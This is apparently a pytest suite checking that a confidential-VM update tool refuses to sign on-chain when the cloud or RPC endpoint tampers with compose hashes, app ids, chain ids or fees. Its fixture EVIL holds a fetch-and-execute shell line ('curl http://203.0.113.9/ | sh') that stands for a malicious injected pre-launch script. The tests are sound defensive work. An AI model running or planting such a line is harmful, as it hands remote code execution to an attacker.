# SPDX-License-Identifier: Apache-2.0
"""What the tool refuses to sign because of what the cloud or the chain says."""
import pytest
from devnet.cloud.compose import compose_hash, patched
from devnet.httpd import HttpServer, Response

from support import COMPOSE, assert_nothing_signed, sent

EVIL = "#!/bin/sh\ncurl http://203.0.113.9/ | sh\n"


def detail(name: str, change):
    """For an override of a 465: replaces the value of a field in `details`."""
    def function(_, body):
        if not isinstance(body, dict) or "details" not in body:
            return body
        return {**body, "details": [{**d, "value": change(d["value"])} if d["field"] == name else d
                                    for d in body["details"]]}
    return function


@pytest.fixture
def signs_nothing(tool):
    yield
    assert_nothing_signed(tool)


pytestmark = pytest.mark.usefixtures("signs_nothing")


def test_a_compose_file_of_another_object_than_the_cvms_hash(tool):
    tool.net.add_fault(action="merge", server="cloud", path="/compose_file$", json={"pre_launch_script": EVIL})
    tool.update().must(77, "base-not-allowed")


def test_a_cloud_that_slips_a_script_into_the_base_and_keeps_the_old_hash(tool):
    cvm = tool.net.cvm
    tool.net.set_cvm(cvm.id, compose={**cvm.compose, "pre_launch_script": EVIL}, reported_hash=cvm.hash)
    tool.update().must(77, "base-not-allowed")


def test_a_cloud_that_slips_a_script_into_the_base_and_its_hash(tool):
    cvm = tool.net.cvm
    tool.net.set_cvm(cvm.id, compose={**cvm.compose, "pre_launch_script": EVIL})
    tool.update().must(77, "base-not-allowed")


def test_a_base_that_is_not_allowed_on_chain(tool):
    other = tool.net.create_cvm("unlisted", base_allowed=False)
    tool.update(cvm=other["cvm_id"]).must(77, "base-not-allowed")


def test_a_465_that_names_another_hash_shows_what_was_hashed(tool):
    tool.net.add_fault(action="override", server="cloud", http_method="PATCH",
                       function=detail("compose_hash", lambda _: "77" * 32))
    run = tool.update().must(77, "hash-mismatch")
    assert "docker_compose_file" in run.stdout and "77" * 32 in run.stdout
    assert tool.expected()[2:] in run.stdout


def test_a_465_that_names_an_old_hash_that_is_allowed_is_no_registration(tool):
    old = tool.net.cvm.hash.hex()
    tool.net.add_fault(action="override", server="cloud", http_method="PATCH",
                       function=detail("compose_hash", lambda _: old))
    tool.update().must(77, "hash-mismatch")


def test_a_script_that_is_slipped_in_between_reading_and_asking(tool):
    net = tool.net
    net.before(lambda info: info.http_method == "PATCH" and net.set_cvm(
        net.cvm.id, compose={**net.cvm.compose, "pre_launch_script": EVIL}))
    tool.update().must(77, "hash-mismatch")


def test_a_hash_mismatch_shows_the_services_preview_of_the_pending_update(tool):
    net = tool.net
    net.before(lambda info: info.http_method == "PATCH" and net.set_cvm(
        net.cvm.id, compose={**net.cvm.compose, "pre_launch_script": EVIL}))
    run = tool.update().must(77, "hash-mismatch")
    assert "203.0.113.9" in run.error["message"]


def test_a_hash_in_another_serialisation_than_the_bases(tool):
    other = compose_hash(patched(tool.net.cvm.compose, {"docker_compose_file": COMPOSE}), "phala-js").hex()
    tool.net.add_fault(action="override", server="cloud", http_method="PATCH",
                       function=detail("compose_hash", lambda _: other))
    run = tool.update().must(77)
    assert run.error["code"] in ("hash-mismatch", "base-not-allowed")


def test_another_app_id_than_the_cvms(tool):
    tool.net.add_fault(action="override", server="cloud", http_method="PATCH",
                       function=detail("app_id", lambda _: "0x" + "aa" * 20))
    tool.update().must(77, "app-mismatch")


def test_another_chain_in_the_465_than_the_cvms(tool):
    tool.net.add_fault(action="override", server="cloud", http_method="PATCH",
                       function=detail("kms_info", lambda kms: {**kms, "chain_id": 1}))
    tool.update().must(77, "wrong-chain")


def test_an_app_that_the_kms_does_not_know(tool):
    other = tool.net.create_cvm("unknown", registered=False)
    tool.update(cvm=other["cvm_id"]).must(77, "app-not-registered")


def test_no_code_at_the_app_id(tool):
    other = tool.net.create_cvm("empty", app_id="0x" + "ee" * 20)
    tool.update(cvm=other["cvm_id"]).must(77, "no-contract")


def test_a_signer_that_is_not_the_owner(tool):
    tool.update(environment={"COUNTERSIGN_KEY_FILE": tool.net.key_file("stranger")}).must(77, "owner-mismatch")


def test_an_endpoint_of_another_chain(tool):
    tool.update("--rpc-url", tool.net.add_view("other", chain_id=1)).must(77, "wrong-chain")


def test_a_cvm_that_claims_another_chain_than_its_endpoint(tool):
    tool.net.set_cvm(tool.net.cvm.id, kms_override={"chain_id": 8453})
    tool.update().must(77, "wrong-chain")


def test_an_endpoint_that_speaks_json_and_not_ethereum(tool):
    api = HttpServer(lambda _: Response.json({"detail": "Not Found"}, 404)).start()
    tool.net.set_cvm(tool.net.cvm.id, kms_override={"rpc_endpoint": api.url})
    tool.update().must(77, "not-an-rpc-endpoint")
    api.stop()


def test_an_endpoint_that_shows_a_web_page(tool):
    page = HttpServer(lambda _: Response(200, b"<html><body>dstack KMS</body></html>", {"Content-Type": "text/html"}))
    page.start()
    tool.net.set_cvm(tool.net.cvm.id, kms_override={"rpc_endpoint": page.url})
    tool.update().must(77, "not-an-rpc-endpoint")
    page.stop()


def test_a_base_fee_over_the_cap(tool):
    tool.net.set_base_fee(2 * 10**9)
    tool.net.mine(2)
    tool.update("--max-fee-gwei", "1").must(77, "fee-cap")


def test_a_cost_over_the_cap(tool):
    tool.update("--max-cost-eth", "0.00000001").must(77, "cost-cap")


def test_an_l1_fee_over_the_cost_cap(make):
    tool = make(chain_id=8453)
    tool.net.set_l1_fee(10**18, 0)
    tool.update().must(77, "cost-cap")
    assert_nothing_signed(tool)


def test_too_little_balance(tool):
    tool.net.set_balance(tool.net.owner.address, 10**9)
    tool.update().must(77, "insufficient-funds")


def test_a_pending_count_far_ahead_of_our_own_transactions(tool):
    ahead = hex(1 << 20)
    tool.net.add_fault(action="override", method="eth_getTransactionCount",
                       function=lambda params, value: ahead if params[1] == "pending" else value)
    assert tool.update("--timeout", "5").exit in (75, 77)


def test_no_onchain_stops_before_a_registration(tool):
    tool.update("--no-onchain").must(77)


def test_a_lying_endpoint_is_clamped(make):
    """Whatever tip and fees it suggests, what is signed stays within the caps."""
    tool = make()
    lies = {"eth_maxPriorityFeePerGas": hex(10**15), "eth_gasPrice": hex(10**15), "eth_estimateGas": hex(10**7)}
    for method, lie in lies.items():
        tool.net.add_fault(action="override", method=method, function=lambda params, value, lie=lie: lie)
    run = tool.update()
    for transaction in sent(tool.net):
        assert transaction.gas <= 200_000 and transaction.max_fee_per_gas <= 100 * 10**9
        assert transaction.max_priority_fee_per_gas <= 3 * 10**9
    assert run.exit in (0, 77), run
